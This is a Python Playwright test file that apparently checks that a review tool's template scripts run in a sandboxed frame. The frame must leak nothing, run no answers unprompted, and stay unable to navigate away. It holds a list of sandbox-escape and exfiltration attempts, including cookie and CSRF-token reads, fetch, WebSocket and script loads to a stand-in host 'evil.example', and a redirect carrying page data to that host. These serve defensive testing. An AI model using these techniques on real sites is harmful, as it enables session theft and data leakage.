"""A template's own scripts in a real browser: they run where the setting says so, in a frame from which they reach nothing."""

from __future__ import annotations

import html
import json
from collections.abc import Iterator
from typing import Any

import pytest
from page_server import PageServer, asked
from playwright.sync_api import Browser, expect
from review_page_in_browser import classify, frame_of, signed_in
from test_review_page_attacks import PAYLOADS, Watched

from review_page.elements import check_elements
from review_page.template_scripts import script_sources

pytestmark = pytest.mark.slow
EVIL = "https://evil.example/"
USEFUL = """<div id="task" data-reasons="[&#34;too long&#34;, &#34;too short&#34;]"></div>
<crowd-form><select name="reason" required><option value="">choose</option><option>too long</option><option>too short</option></select>
<input name="more"></crowd-form>
<script>
const reasons = JSON.parse(document.getElementById("task").dataset.reasons);
document.addEventListener("all-crowd-elements-ready", () => { document.body.dataset.known = String(reasons.length); });
document.querySelector("crowd-form").addEventListener("submit", (event) => {
  const more = document.querySelector("[name=more]");
  if (more.value === "") { event.preventDefault(); document.body.dataset.held = "yes"; }
});
</script>"""


@pytest.fixture
def watched(browser: Browser, served: PageServer) -> Iterator[Watched]:
    context = signed_in(browser, served, viewport={"width": 1200, "height": 850})
    yield Watched(context.new_page(), served)
    context.close()


def scripted(source: str, **changes: Any) -> Any:
    """A task whose template may run its scripts. What Liquid would write is in it already."""
    check_elements(source, scripts=True)
    return asked(source, **{"scripts": script_sources(source), **changes})


def test_a_templates_script_reads_the_task_and_holds_an_answer_back(watched: Watched, served: PageServer) -> None:
    store = served.hold(scripted(USEFUL))
    watched.page.goto("/worker")
    frame = frame_of(watched.page)
    expect(frame.locator("body")).to_have_attribute("data-known", "2")

    frame.get_by_role("combobox").select_option("too short")
    frame.get_by_role("button", name="Submit").click()
    expect(frame.locator("body")).to_have_attribute("data-held", "yes")
    assert [one.answer for one in store.tasks.values()] == [None]
    frame.locator("[name=more]").fill("very")
    frame.get_by_role("button", name="Submit").click()

    expect(watched.page.get_by_role("heading", name="Nothing left to review")).to_be_visible()
    assert [one.answer for one in store.tasks.values()] == [{"reason": "too short", "more": "very"}]


def test_a_person_with_nothing_but_a_keyboard_answers_a_task_with_scripts(watched: Watched, served: PageServer) -> None:
    categories = html.escape('["good", "bad"]')
    source = (
        f'<crowd-classifier name="a" header="Which?" categories="{categories}"></crowd-classifier><script>document.title = "x";</script>'
    )
    store = served.hold(scripted(source))
    watched.page.goto("/worker")
    frame = frame_of(watched.page)

    frame.locator("body").press("2")
    expect(frame.get_by_role("radio", checked=True)).to_contain_text("bad")
    frame.locator("body").press("Enter")

    expect(watched.page.get_by_role("heading", name="Nothing left to review")).to_be_visible()
    assert [one.answer for one in store.tasks.values()] == [{"a": {"label": "bad"}}]


def test_a_script_that_a_value_brings_along_does_not_run(watched: Watched, served: PageServer) -> None:
    """Not even where the template lets markup through, and its own script runs."""
    source = "<input name=a><script>document.body.dataset.own = 'ran';</script>"
    shown = f"{source}<div>{''.join(one for one in PAYLOADS if not any(part in one for part in ('<style', 'crowd-', 'refresh')))}</div>"
    served.hold(asked(shown, scripts=script_sources(source)))
    watched.page.goto("/worker")

    expect(frame_of(watched.page).locator("body")).to_have_attribute("data-own", "ran")
    watched.page.wait_for_timeout(700)
    watched.check()


PRELUDE = """
const made = (tag, values) => Object.assign(document.createElement(tag), values);
const added = (tag, values) => document.body.appendChild(made(tag, values));
const heard = (one, begin = () => {}) => new Promise((done) => {
  one.onload = one.onopen = one.onmessage = () => done(1);
  one.onerror = () => done(0);
  setTimeout(() => done(0), 2000);
  begin(one);
});
"""
RUN = """
(async () => {
  const got = {};
  for (const [name, go] of Object.entries(tries)) { try { got[name] = await go(); } catch { got[name] = null; } }
  document.querySelector("output").textContent = JSON.stringify(got);
})();
"""
REACHES = {
    "cookie": "document.cookie",
    "storage": "localStorage.length",
    "session": "sessionStorage.length",
    "database": "indexedDB.open('x')",
    "page": "parent.document.title",
    "token": "parent.document.querySelector('meta[name=csrf-token]').content",
    "top": "top.location.href",
    "navigate the page": "(top.location = EVIL, 0)",
    "navigate the parent": "(parent.location.replace(EVIL), 0)",
    "pop up": "window.open(EVIL) && 1",
    "the other task's frame": "[0, 1, 2].map((n) => parent.frames[n]).find((one) => one !== window).document.title",
    "fetch its own": "fetch('/worker/next').then((answer) => answer.text())",
    "fetch": "fetch(EVIL, {mode: 'no-cors'}).then(() => 1)",
    "beacon": "fetch(EVIL, {method: 'POST', mode: 'no-cors', keepalive: true}).then(() => 1)",
    "request": "heard(new XMLHttpRequest(), (one) => { one.open('GET', EVIL); one.send(); })",
    "socket": "heard(new WebSocket('wss://evil.example'))",
    "events": "heard(new EventSource(EVIL))",
    "picture": "heard(new Image(), (one) => { one.src = EVIL; })",
    "style": "heard(made('link', {rel: 'stylesheet', href: EVIL}), (one) => document.head.append(one))",
    "prefetch": "heard(made('link', {rel: 'prefetch', href: EVIL}), (one) => document.head.append(one))",
    "module": "import(`${EVIL}x.js`).then(() => 1)",
    "script": "heard(made('script', {src: `${EVIL}x.js`}), (one) => document.head.append(one))",
    "speculation": "(added('script', {type: 'speculationrules', textContent: JSON.stringify({prefetch: [{urls: [EVIL]}]})}), 0)",
    "code from text": "eval('1')",
    "function from text": "new Function('return 1')()",
    "inline script": "(added('script', {textContent: 'window.added = 1'}), window.added)",
    "handler": "(added('a', {}).setAttribute('onclick', 'window.handled = 1'), document.body.lastChild.click(), window.handled)",
    "worker": "heard(new Worker('data:text/javascript,postMessage(1)'))",
    "blob worker": "heard(new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))))",
    "frame": "(added('iframe', {src: EVIL}), 0)",
    "form": "(added('form', {action: EVIL}).submit(), 0)",
    "link": "(added('a', {href: EVIL, target: '_top'}).click(), 0)",
    "dialog": "confirm('x')",
}


def test_a_script_reaches_no_session_no_page_no_network_and_no_way_out(watched: Watched, served: PageServer) -> None:
    tries = ", ".join(f"{json.dumps(name)}: async () => {code}" for name, code in REACHES.items())
    script = f"const EVIL = '{EVIL}';{PRELUDE}const tries = {{{tries}}};{RUN}"
    served.hold(
        scripted(f"<input name=a><output></output><script>{script}</script>"),
        classify("another task"),
    )
    watched.page.goto("/worker")

    told = frame_of(watched.page).locator("output")
    expect(told).not_to_be_empty()
    got = json.loads(told.text_content() or "")
    assert {name: value for name, value in got.items() if value} == {}
    assert set(got) >= {"cookie", "fetch", "worker"}
    assert watched.page.url == f"{served.url}/worker"
    watched.check()


SENT: list[Any] = [
    {"type": "submit", "answer": {"a": "by the script"}},
    {"type": "action", "action": "undo"},
    {"type": "action", "action": "skip"},
    {"type": "action", "action": "toString"},
    {"type": "ready", "categories": "many", "text": {"length": 3}},
    {"type": "ready"},
    {"type": "say", "text": "x" * 100_000},
    {"type": "height", "height": 1e12},
    {"type": "draft", "answer": {"a": 1}},
    [], "submit", None,
]  # fmt: skip


def test_a_script_neither_answers_nor_undoes_before_the_person_does_anything(watched: Watched, served: PageServer) -> None:
    """It has the page of the task, so it may write any message. Those that act wait for a touch or a key of the person."""
    messages = json.dumps(SENT)
    store = served.hold(
        classify("answered before"),
        scripted(
            f"<input name=a><script>\nlet told = 0;\naddEventListener('message', (event) => {{ if (event.data.type === 'start' && !told++) "
            f"for (const one of {messages}) parent.postMessage(one, '*'); }});\n</script>"
        ),
    )
    done, open_task = store.tasks.values()
    done.answer, done.answered_by, done.answered_at = {"category": {"label": "neutral"}}, "ann", 1.0
    said: list[str] = []
    watched.page.on("pageerror", lambda error: said.append(str(error)))
    with watched.page.expect_request("**/worker/ahead", timeout=45_000):  # once the task is shown
        watched.page.goto("/worker")
    # Whatever a test evaluates in the page counts as the person's touch. So it only waits.
    watched.page.wait_for_timeout(1_500)

    assert (open_task.answer, done.answer) == (None, {"category": {"label": "neutral"}})
    expect(watched.page.locator("dialog[open]")).to_have_count(0)
    assert said == []
    watched.check()
    frame = frame_of(watched.page)
    frame.locator("[name=a]").fill("by hand")
    frame.get_by_role("button", name="Submit").click()
    expect(watched.page.get_by_role("heading", name="Nothing left to review")).to_be_visible()
    assert open_task.answer == {"a": "by hand"}


def test_a_frame_that_goes_elsewhere_takes_nothing_along(watched: Watched, served: PageServer) -> None:
    """A frame may always navigate itself; the page around allows it the addresses of tasks only."""
    served.hold(scripted(f"<input name=a><script>\nsetTimeout(() => {{ location = '{EVIL}?text=' + document.title; }}, 50);\n</script>"))
    watched.page.goto("/worker")

    watched.page.wait_for_timeout(1_500)
    assert watched.page.url == f"{served.url}/worker"
    assert watched.outside == []
